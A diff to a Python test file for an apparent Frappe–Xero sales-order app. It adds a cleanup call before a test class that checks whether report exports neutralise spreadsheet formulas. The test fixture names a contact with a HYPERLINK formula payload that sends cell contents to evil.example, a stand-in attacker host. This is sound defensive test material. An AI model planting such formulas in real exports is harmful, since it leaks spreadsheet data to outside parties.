@@ -24,6 +24,7 @@ from xero_sales_orders.services import webhook_config, xero_consent, xero_tokens
 from xero_sales_orders.services.import_settings import BATCH
 from xero_sales_orders.services.order_invoicing import create_invoice
 from xero_sales_orders.tests.factories import make_contact, make_order, make_user
+from xero_sales_orders.tests.test_reports import forget_orders_of
 from xso_devkit.sandbox import connect, consent, start_sandbox
 
 MANAGER = "xso-small-doors-manager@example.com"
@@ -201,6 +202,7 @@ class TestReportsNeutraliseFormulas(FrappeTestCase):
 	def setUpClass(cls):
 		super().setUpClass()
 		frappe.set_user("Administrator")
+		forget_orders_of(CURRENCY)  # what a run of an older test module left in this currency on the site
 		customer = make_contact('=HYPERLINK("https://evil.example/?x="&A1,"Invoice")').name
 		cls.order = make_order(
 			items=[
